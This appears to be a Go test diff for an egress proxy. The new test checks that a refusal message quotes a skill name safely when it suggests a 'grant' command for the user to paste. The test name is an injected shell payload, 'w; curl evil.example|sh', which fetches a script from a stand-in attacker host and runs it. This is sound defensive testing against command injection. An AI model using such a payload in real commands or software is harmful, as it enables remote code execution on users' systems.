@@ -62,6 +62,15 @@ func TestRefusalsSaySo(t *testing.T) {
 	}
 }
 
+// TestNamesInCommands: a skill chooses its name, and the user pastes the command.
+func TestNamesInCommands(t *testing.T) {
+	t.Parallel()
+	s := openAlone(t, &names{}, egress.Grant{Skill: "w; curl evil.example|sh"})
+	if _, body := get(t, client(t, s.address, nil), "https://api.test"); !strings.Contains(body, "skills-mcp grant 'w; curl evil.example|sh' --host api.test") {
+		t.Errorf("it says %q", body)
+	}
+}
+
 // TestRefusedSOCKS: every refusal has a reply.
 func TestRefusedSOCKS(t *testing.T) {
 	t.Parallel()
